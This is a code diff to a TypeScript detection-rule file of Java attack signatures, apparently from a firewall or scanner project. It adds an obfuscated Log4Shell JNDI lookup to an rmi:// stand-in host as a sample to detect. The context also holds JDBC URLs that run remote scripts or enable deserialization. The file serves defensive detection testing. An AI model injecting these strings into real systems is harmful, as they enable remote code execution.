@@ -22,7 +22,10 @@ export const javaSigns = {
     paranoia: 1,
     tags,
     samples: {
-      matching: ['$' + '{$' + '{::-j}nd' + '$' + '{upper:i}:ldap://h.example}'],
+      matching: [
+        '$' + '{jnd$' + '{lower:I}:rmi://h.example/b}',
+        '$' + '{$' + '{::-j}nd' + '$' + '{upper:i}:ldap://h.example}',
+      ],
       other: ['$' + '{jndi:ldap://h.example}', '$' + '{a:-b}'],
     },
   },
@@ -162,7 +165,7 @@ export const javaSigns = {
         "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a'",
         'jdbc:mysql://h.example/a?autoDeserialize=true',
       ],
-      other: ['jdbc:mysql://db.example/shop?useSSL=true'],
+      other: ['jdbc:mysql://db.example/shop?useSSL=true', 'jdbc:h2:mem:shop;MODE=MySQL'],
     },
   },
 } as const satisfies Record<string, SignEntry>;
